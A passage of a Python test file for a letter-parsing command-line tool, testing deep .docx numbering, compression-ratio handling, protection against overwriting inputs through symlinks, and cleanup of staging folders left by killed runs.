    letter = parse_letter(write(tmp_path / "deep.docx", package(doc, numbering(levels))))
    assert "Mục ở cấp mười" in letter.model_dump_json()


def test_a_part_of_many_tiny_runs_is_not_a_zip_bomb(tmp_path: Path) -> None:
    """Parts of tiny runs compress about 400:1, like real ones generators write (here 11 MiB of
    building blocks in the glossary part, and 20,000 one-letter runs in the body): read, not
    refused by their compression ratio."""
    def runs(n: int) -> str:
        return "".join('<w:r><w:t xml:space="preserve">a </w:t></w:r>' for _ in range(n))

    entries = parts(document=body(*letter_paragraphs()[:10], f"<w:p>{runs(20_000)}</w:p>", *letter_paragraphs()[10:]))
    entries["word/glossary/document.xml"] = body(*(f"<w:p>{runs(100)}</w:p>" for _ in range(2500))).encode()
    path = write(tmp_path / "runs.docx", zip_parts(entries))
    unpacked = sum(len(v) for v in entries.values())
    assert unpacked > 10 * 1024**2 and unpacked / path.stat().st_size > 200
    letter = parse_letter(path)
    assert "a a a a" in letter.model_dump_json() and letter.items


def test_parse_never_overwrites_an_input(tmp_path: Path) -> None:
    a = write(tmp_path / "a.txt", LETTER_TXT)
    b = write(tmp_path / "b.txt", LETTER_TXT)
    (tmp_path / "link.txt").symlink_to(a)
    for out in (a, tmp_path / "link.txt", Path(os.path.relpath(a))):
        for args in (["parse", str(a), "-o", str(out)], ["link", str(a), str(b), "-o", str(out)]):
            result = runner.invoke(app, args)
            assert result.exit_code == 1, args
            assert "is one of the input files" in result.stderr
    assert a.read_text(encoding="utf-8") == LETTER_TXT and b.read_text(encoding="utf-8") == LETTER_TXT
    ok = runner.invoke(app, ["parse", str(a), "-o", str(tmp_path / "a.json")])
    assert ok.exit_code == 0 and json.loads((tmp_path / "a.json").read_text())["source"]["path"] == str(a)
    assert sorted(x.name for x in tmp_path.iterdir()) == ["a.json", "a.txt", "b.txt", "link.txt"]  # no temp left


def test_a_report_folder_through_a_link_leaves_nothing_behind(tmp_path: Path) -> None:
    folder = small_folder(tmp_path)
    real = tmp_path / "reports" / "real"
    link = tmp_path / "report"
    assert quick(folder, real, "--no-cache").exit_code == 0
    link.symlink_to(real, target_is_directory=True)
    result = quick(folder, link, "--no-cache")
    assert result.exit_code == 0, result.stderr
    assert link.is_symlink() and (link / "letters.csv").is_file()
    assert sorted(x.name for x in tmp_path.iterdir()) == ["letters", "report", "reports"]
    assert sorted(x.name for x in real.parent.iterdir()) == ["real"]


def test_leftovers_of_a_killed_run_are_swept(tmp_path: Path) -> None:
    """A run killed while writing (SIGKILL cannot be caught) leaves its staging folder; the next
    run removes it, and only folders of dead runs that hold a cascade report marker."""
    folder = small_folder(tmp_path)
    dead = 2**22 + 12345  # above Linux's default pid_max: no such process
    stale = tmp_path / f".out.cascade-{dead}-abc123"
    write(stale / ".cascade-report", "written by cascade analyse\n")
    old = tmp_path / f".out.old-.out.cascade-{dead}-def456"
    write(old / ".cascade-report", "written by cascade analyse\n")
    foreign = write(tmp_path / f".out.cascade-{dead}-mine" / "notes.txt", "not a report")
    assert quick(folder, tmp_path / "out", "--no-cache").exit_code == 0
    assert not stale.exists() and not old.exists() and foreign.exists()
    assert stat.S_ISDIR((tmp_path / "out").stat().st_mode)
